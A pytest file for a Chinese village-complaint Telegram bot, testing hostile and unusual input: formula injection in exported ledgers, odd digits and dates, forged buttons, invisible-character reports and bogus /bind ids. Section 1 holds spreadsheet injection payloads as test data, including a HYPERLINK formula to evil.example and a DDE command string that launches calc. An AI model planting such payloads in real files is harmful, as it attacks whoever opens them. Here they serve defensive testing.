"""Hostile and odd input, end to end through the fake Bot API: formulas in ledgers, numbers
and dates that are not what they look like, forged buttons, invisible reports, /bind with
a made-up id, and ledgers holding matters in every state."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl import load_workbook

from bot import cli
from bot.config import ConfigError, parse_config, parse_duration
from bot.text import render
from bot.text.locale import en, zh
from escalation.policy import State
from escalation.reports import ledger
from handlers import report as report_handlers
from tests.conftest import (
    C1_CHAT,
    HEAD1,
    HEAD2,
    POLICE,
    RESIDENT,
    RESIDENT2,
    STAFF,
    STATION_CHAT,
    TZ,
    U1_CHAT,
    U2_CHAT,
    Running,
    town,
)

H = 3600.0
APOLOGY = zh.MESSAGES["err.internal"]
EVIL_NAME = '=HYPERLINK("http://evil.example/"&B2,"点我")'


def calm_town() -> dict[str, Any]:
    """Nothing escalates while a test makes its matters."""
    raw = town()
    raw["deadlines"]["unit"] = {"claim": "1d", "resolve": "3d"}
    return raw


async def matter(bot: Running, number: int) -> Any:
    async with bot.svc.store.read() as tx:
        return await tx.matter(number)


async def report(bot: Running, chat: int, user: int, name: str, text: str, number: int) -> Any:
    bot.api.send_text(chat, bot.api.user(user, name), f"/report {text}")
    return await bot.wait_bot(chat, f"#{number}")  # the card, in the chat's language


def no_apology(bot: Running, *chats: int) -> None:
    for chat in chats:
        assert bot.count_bot(chat, APOLOGY) == 0, chat


async def exported(bot: Running, chat: int, user: int, command: str) -> Any:
    bot.clock.advance(60)  # a ledger's period ends now: the matters made just now are in it
    before = sum(1 for m in bot.api.bot_messages(chat) if m.document_name)
    bot.say(chat, user, command)
    await bot.api.wait_for(lambda: sum(1 for m in bot.api.bot_messages(chat) if m.document_name) > before)
    doc = [m for m in bot.api.bot_messages(chat) if m.document_name][-1]
    return load_workbook(io.BytesIO(doc.document_bytes or b""))


def write_config(tmp_path: Path, raw: dict[str, Any], database: Path) -> Path:
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({**raw, "database": str(database)}, allow_unicode=True), encoding="utf-8")
    return config


def run_cli(config: Path, out: Path) -> int:
    return cli.main(["export", "--config", str(config), "--from", "2026-11-24", "--to", "2026-11-24",
                     "--out", str(out)])


# --- 1. formula injection in ledgers ----------------------------------------------------
async def test_a_ledger_writes_formula_like_text_as_text(make_bot: Any, bot_database: str, tmp_path: Path) -> None:
    database = bot_database
    async with make_bot(calm_town(), database=database) as bot:
        await report(bot, U1_CHAT, RESIDENT, EVIL_NAME, "楼道堆放杂物", 1)
        await report(bot, U1_CHAT, RESIDENT2, "@SUM(A1:A9)", "-2+3 噪音扰民", 2)
        await bot.done(U1_CHAT, bot.say(U1_CHAT, HEAD1, "/resolve 1 =1+2"))
        await bot.done(U1_CHAT, bot.say(U1_CHAT, HEAD1, "/resolve 2 +cmd|' /C calc'!A0"))
        await report(bot, U1_CHAT, RESIDENT2, "刘大爷", "井盖丢了", 3)
        # XML cannot hold these: they go, not the file.
        await bot.done(U1_CHAT, bot.say(U1_CHAT, HEAD1, "/resolve 3 已补\x0b好\x1b"))
        await bot.settle()
        book = await exported(bot, C1_CHAT, POLICE, "/export week")
    formulas = [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    rows = list(book["全部事项"].iter_rows(values_only=True))
    assert rows[1][5] == EVIL_NAME and rows[1][13] == "=1+2"  # kept exactly as typed
    assert rows[2][5] == "@SUM(A1:A9)" and rows[2][13] == "+cmd|' /C calc'!A0"
    assert rows[2][4] == "-2+3 噪音扰民"  # the report itself (事由), as text
    assert rows[3][13] == "已补好"

    out = tmp_path / "台账.csv"
    assert await asyncio.to_thread(run_cli, write_config(tmp_path, calm_town(), database), out) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert rows[1][5] == "'" + EVIL_NAME and rows[1][13] == "'=1+2"
    assert rows[2][5] == "'@SUM(A1:A9)" and rows[2][13] == "'+cmd|' /C calc'!A0"
    assert rows[2][4] == "'-2+3 噪音扰民"
    assert rows[1][1] == "第一村民小组"  # ordinary text is left alone


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe() -> None:
    for text in ("=1", "+1", "-1", "@x", "\t=1", "\r=1"):
        assert ledger.csv_cell(text) == "'" + text
    for value in ("王芳", "1-2", "", 7, None):
        assert ledger.csv_cell(value) == value


# --- 2. numbers, dates and durations ------------------------------------------------------
COMMANDS = [
    (U1_CHAT, HEAD1, "/claim ²", "用法：/claim"),
    (U1_CHAT, HEAD1, "/show ²", "用法：/show"),
    (U1_CHAT, HEAD1, "/resolve ¹ 好了", "用法：/resolve"),
    (U1_CHAT, RESIDENT, "/cancel ²", "用法：/cancel"),
    (U1_CHAT, HEAD1, "/claim 12345678901234567890123", "用法：/claim"),
    (U1_CHAT, HEAD1, "/show 12345678901234567890123", "用法：/show"),
    (U1_CHAT, HEAD1, "/suspend 1 99999999999d 等法院", "用法：/suspend"),
    (U1_CHAT, HEAD1, "/suspend 1 " + "9" * 400 + "d 等法院", "用法：/suspend"),
    (U1_CHAT, HEAD1, "/suspend ² 3d 等法院", "用法：/suspend"),
    (U1_CHAT, HEAD1, "/suspend 1 9999-12-31 等法院", "挂起时间最长 30天"),
    (C1_CHAT, POLICE, "/export 0001-01-01 0001-01-01", "日期不对"),
    (C1_CHAT, POLICE, "/export 9999-12-31 9999-12-31", "日期不对"),
    (C1_CHAT, POLICE, "/export ２０２６-11-01 2026-11-02", "日期不对"),
    (STATION_CHAT, STAFF, "/duty ²", "没有找到这位值班人员"),
]


async def test_odd_numbers_dates_and_durations_get_a_usage_answer(make_bot: Any) -> None:
    async with make_bot(calm_town()) as bot:
        await report(bot, U1_CHAT, RESIDENT, "王芳", "路灯坏了", 1)
        bot.api.send_photo(U1_CHAT, bot.user(RESIDENT), caption="#² 井盖的照片")  # not a matter's number: ignored
        await bot.settle()
        for chat, user, command, answer in COMMANDS:
            before = bot.count_bot(chat, answer)
            bot.say(chat, user, command)
            await bot.api.wait_for(lambda chat=chat, answer=answer, before=before:
                                   bot.count_bot(chat, answer) > before, 5.0)
        await bot.settle()
        no_apology(bot, U1_CHAT, C1_CHAT, STATION_CHAT)
        m = await matter(bot, 1)
        assert m.state == State.OPEN and m.suspended_until is None
        assert not bot.api.calls_to("sendDocument")
        async with bot.svc.store.read() as tx:
            assert await tx.duty_overrides(bot.clock.now(), bot.svc.tree.stations[0].id) == []
            assert await tx.attachments(1) == []


async def test_fullwidth_digits_name_the_matter_they_show(make_bot: Any) -> None:
    async with make_bot(calm_town()) as bot:
        await report(bot, U1_CHAT, RESIDENT, "王芳", "路灯坏了", 1)
        await bot.done(U1_CHAT, bot.say(U1_CHAT, HEAD1, "/claim ＃１"))  # a Chinese keyboard's digits and hash


async def test_forged_buttons_get_a_short_answer_and_change_nothing(make_bot: Any) -> None:
    async with make_bot(calm_town()) as bot:
        card = await report(bot, U1_CHAT, RESIDENT, "王芳", "路灯坏了", 1)
        await bot.done(U1_CHAT, bot.say(U1_CHAT, HEAD1, "/resolve 1 已修好"))
        await bot.settle()
        forged = ["v1:claim:²", "v1:claim:12345678901234567890123", "v1:resolve:١", "v1:rate:1:bogus",
                  "v1:rate:1:", "v1:cat:²:fraud", "v1:cats:99999999999999999999"]
        for n, data in enumerate(forged, 1):
            bot.api.press_button(U1_CHAT, bot.user(RESIDENT, "王芳"), card.message_id, data)
            await bot.api.wait_for(lambda n=n: len(bot.api.callback_answers) == n)
        await bot.settle()
        assert all("按钮已失效" in (a.get("text") or "") for a in bot.api.callback_answers)
        no_apology(bot, U1_CHAT)
        m = await matter(bot, 1)
        assert m.state == State.RESOLVED and m.rating is None


def test_parsers_refuse_what_int_and_float_would_choke_on() -> None:
    assert render.parse_callback("v1:claim:²") is None
    assert render.parse_callback("v1:claim:" + "9" * 23) is None
    assert render.parse_callback("v1:claim:42") == ("claim", 42, None)
    for word in ("99999999999d", "9" * 400 + "d", "1e9d", "nand", "infd"):
        with pytest.raises(ValueError):
            parse_duration(word)
    assert parse_duration("365000d") == 365000 * 86400.0  # a thousand years: refused later, as too long
    for first, last in (("0001-01-01", "0001-01-01"), ("9999-12-31", "9999-12-31")):
        with pytest.raises(ValueError):
            ledger.date_range(first, last, TZ)


def test_a_config_duration_too_long_for_a_calendar_is_refused_with_its_key_path() -> None:
    raw = town()
    raw["deadlines"]["unit"] = {"claim": "99999999999d", "resolve": "99999999999d"}  # no card could show its due time
    with pytest.raises(ConfigError, match=r"deadlines\.unit\.claim"):
        parse_config(raw)


# --- 3. invisible reports -------------------------------------------------------------------
INVISIBLE = ["\u200b", "\u200c\u200d", "\u2060\ufeff", " \u3000\u200b ", "\u180e\u2061", "\u3164"]


async def test_a_report_of_only_invisible_characters_is_refused_like_an_empty_one(make_bot: Any) -> None:
    empty = "请写明发生了什么"
    async with make_bot(calm_town()) as bot:
        bot.api.add_chat(RESIDENT, None, "private")
        for n, text in enumerate(INVISIBLE, 1):
            bot.say(U1_CHAT, RESIDENT, f"/report {text}")  # as /report alone: what happened?
            await bot.api.wait_for(lambda n=n: bot.count_bot(U1_CHAT, "请说明发生了什么") == n)
            bot.say(U1_CHAT, RESIDENT, text)  # the answer
            await bot.api.wait_for(lambda n=n: bot.count_bot(U1_CHAT, empty) == n)
        bot.say(U1_CHAT, RESIDENT, "上报 \u200b\u200b")
        await bot.api.wait_for(lambda: bot.count_bot(U1_CHAT, empty) == len(INVISIBLE) + 1)
        for n, text in enumerate(INVISIBLE, 1):
            bot.say(RESIDENT, RESIDENT, "/start p_u1")
            await bot.api.wait_for(lambda n=n: bot.count_bot(RESIDENT, "私下反映") >= n)
            bot.say(RESIDENT, RESIDENT, text)
            await bot.api.wait_for(lambda n=n: bot.count_bot(RESIDENT, empty) == n)
        await bot.settle()
        assert await matter(bot, 1) is None
        # A photo with an invisible caption is a photo without words, not a refusal.
        bot.api.send_photo(U1_CHAT, bot.user(RESIDENT), caption="/report \u200b")
        await bot.wait_bot(U1_CHAT, "事项 #1")
        assert (await matter(bot, 1)).text == zh.MESSAGES["report.photo_only"]
        bot.say(RESIDENT, RESIDENT, "/start p_u1")  # the same in private
        await bot.api.wait_for(lambda: bot.count_bot(RESIDENT, "私下反映") > len(INVISIBLE))
        bot.api.send_photo(RESIDENT, bot.user(RESIDENT), caption="\u200b\u2060")
        await bot.wait_bot(RESIDENT, "私下反映的事项 #2")
        assert (await matter(bot, 2)).text == zh.MESSAGES["report.photo_only"]
        bot.say(U1_CHAT, RESIDENT, "/report \u200b井盖丢了\u200b")  # visible text keeps its report
        await bot.wait_bot(U1_CHAT, "事项 #3")


def test_visible() -> None:
    assert not any(report_handlers.visible(text) for text in [*INVISIBLE, "", "\ufe0f\u034f", "\u2800"])
    assert all(report_handlers.visible(text) for text in ("a", "\u200b井", "👍", "１", "\u0301e"))


# --- 4. /bind with an unknown id --------------------------------------------------------------
async def test_bind_with_an_unknown_id_lists_ids_only_to_who_may_bind_there(make_bot: Any) -> None:
    async with make_bot() as bot:
        bot.api.add_chat(-777, "新群")
        bot.say(-777, RESIDENT, "/bind junk")
        answer = await bot.wait_bot(-777, "没有编号为 junk 的节点")
        assert "u1" not in answer.text and "c1" not in answer.text and "st" not in answer.text
        bot.say(-777, HEAD2, "/bind <b>junk2</b>")
        answer = await bot.wait_bot(-777, "没有编号为 <b>junk2</b>")  # escaped, shown as typed
        assert answer.text.count("u2") == 1 and "u1" not in answer.text and "c1" not in answer.text
        bot.say(-777, POLICE, "/bind junk3")
        answer = await bot.wait_bot(-777, "没有编号为 junk3")
        assert all(i in answer.text for i in ("c1", "u1", "u2")) and "c2" not in answer.text
        # In a chat bound to 第一村民小组, 第二村民小组's head may bind nothing: no ids.
        bot.say(U1_CHAT, HEAD2, "/bind junk4")
        answer = await bot.wait_bot(U1_CHAT, "没有编号为 junk4")
        assert "u2" not in answer.text
        await bot.settle()
        assert bot.svc.tree.node_for_chat(-777) is None and bot.svc.tree.chat_of("u1") == U1_CHAT


# --- 5. a ledger with a matter in every state -----------------------------------------------
LABELS = {
    "zh": {1: "待认领", 2: "处理中", 3: "已解决", 4: "无法解决", 5: "已转交", 6: "已撤回", 7: "处理中"},
    "en": {1: "waiting to be claimed", 2: "in progress", 3: "resolved", 4: "cannot be resolved here",
           5: "referred elsewhere", 6: "withdrawn", 7: "in progress"},
}


async def matters_in_every_state(bot: Running) -> None:
    for n in range(1, 8):
        await report(bot, U1_CHAT if n != 6 else U2_CHAT, RESIDENT, "王芳", f"第{n}件事", n)
    steps = [
        (U1_CHAT, HEAD1, "/claim 2", "👍"),  # a reaction on the command (issue 14)
        (U1_CHAT, HEAD1, "/resolve 3 已处理", "👍"),
        (U1_CHAT, HEAD1, "/close 4 双方拒绝调解", "👍"),
        (U1_CHAT, HEAD1, "/refer 5 已引导至法院", "👍"),
        (U2_CHAT, RESIDENT, "/cancel 6", "事项 #6 已撤回"),
        (U1_CHAT, HEAD1, "/claim 7", "👍"),
        (U1_CHAT, HEAD1, "/suspend 7 3d 等待鉴定", "事项 #7 已挂起"),
    ]
    for chat, user, command, answer in steps:
        sent = bot.say(chat, user, command)
        await (bot.done(chat, sent) if answer == "👍" else bot.wait_bot(chat, answer))
    await bot.settle()
    states = [(await matter(bot, n)).state for n in range(1, 8)]
    assert states == ["open", "claimed", "resolved", "unresolvable", "referred", "cancelled", "claimed"]
    assert (await matter(bot, 7)).suspended_until is not None  # a suspended matter shows its state


@pytest.mark.parametrize("language", ["zh", "en"])
async def test_a_ledger_shows_a_matter_in_every_state(
    make_bot: Any, bot_database: str, tmp_path: Path, language: str
) -> None:
    database = bot_database
    raw = {**calm_town(), "language": language}  # the ledger's language (people's replies stay zh)
    async with make_bot(raw, database=database) as bot:
        await matters_in_every_state(bot)
        book = await exported(bot, C1_CHAT, POLICE, "/export week")
        no_apology(bot, C1_CHAT)
        assert bot.count_bot(C1_CHAT, en.MESSAGES["err.internal"]) == 0
    rows = list(book.worksheets[1].iter_rows(values_only=True))
    assert {r[0]: r[11] for r in rows[1:]} == LABELS[language]

    out = tmp_path / "台账.csv"
    assert await asyncio.to_thread(run_cli, write_config(tmp_path, raw, database), out) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert {int(r[0]): r[11] for r in rows[1:]} == LABELS[language]
    xlsx = tmp_path / "台账.xlsx"
    assert await asyncio.to_thread(run_cli, write_config(tmp_path, raw, database), xlsx) == 0
    rows = list(load_workbook(xlsx).worksheets[1].iter_rows(values_only=True))
    assert {r[0]: r[11] for r in rows[1:]} == LABELS[language]


def test_every_state_has_a_ledger_label_in_both_languages() -> None:
    for catalog in (zh.MESSAGES, en.MESSAGES):
        for state in State:
            assert catalog[f"ledger.state.{state.value}"]
